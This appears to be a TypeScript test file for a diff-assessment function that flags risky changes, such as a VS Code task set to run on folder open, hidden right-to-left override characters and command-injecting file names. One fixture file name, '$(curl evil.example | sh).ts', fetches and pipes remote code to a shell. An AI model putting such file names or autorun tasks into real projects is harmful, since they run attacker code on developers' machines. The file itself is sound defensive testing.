import { judgeChange } from "../../src/assessment/judge-change.ts";
import { file } from "../signals/given.ts";
import { describe, expect, test } from "../support/jest.ts";

const AT = "2026-11-20T12:00:00.000Z";
const AUTORUN = ["+{", '+  "tasks": [{', '+    "runOptions": { "runOn": "folderOpen" }', "+  }]", "+}"];

describe("judgeChange", () => {
  test("gives every finding its line, why it matters and what would make it fine", () => {
    const { level, findings } = judgeChange({ files: [file(".vscode/tasks.json", AUTORUN)], unread: [] }, AT);
    expect(level).toBe("critical");
    expect(findings).toEqual([
      {
        signal: "chg-editor-autorun",
        severity: "critical",
        path: ".vscode/tasks.json",
        line: 3,
        endLine: 3,
        fact: "A task starts when the folder is opened.",
        why: expect.stringContaining("checkout"),
        fine: expect.stringContaining("command"),
        reachable: null,
      },
    ]);
  });

  test("keeps every fact, where a report keeps twenty of a signal", () => {
    const lines = Array.from({ length: 90 }, (_, index) => `+const a${index} = "\u202e";`);
    expect(judgeChange({ files: [file("src/a.ts", lines)], unread: [] }, AT).findings).toHaveLength(90);
  });

  test("an ordinary change is low, and what a diff cannot say is listed", () => {
    const { level, complete, notChecked } = judgeChange(
      { files: [file("src/a.ts", ["+const a = 1;"])], unread: [] },
      AT,
    );
    expect([level, complete]).toEqual(["low", true]);
    expect(notChecked.map(({ what }) => what)).toContain("chg-bot-impersonation");
  });

  test("a part that was not read makes it unknown, never low, and is listed", () => {
    const unread = [{ path: "src/b.ts", what: "the diff ends or breaks inside a hunk" }];
    const { level, complete, notChecked } = judgeChange({ files: [file("src/a.ts", ["+a"])], unread }, AT);
    expect([level, complete]).toEqual(["unknown", false]);
    expect(notChecked[0]).toEqual({ what: "src/b.ts", because: "the diff ends or breaks inside a hunk" });
  });

  test("names of files are texts that a shell might act on", () => {
    const { findings } = judgeChange({ files: [file("$(curl evil.example | sh).ts", ["+a"])], unread: [] }, AT);
    expect(findings.map(({ signal, path }) => [signal, path])).toEqual([["chg-metadata-injection", null]]);
  });
});
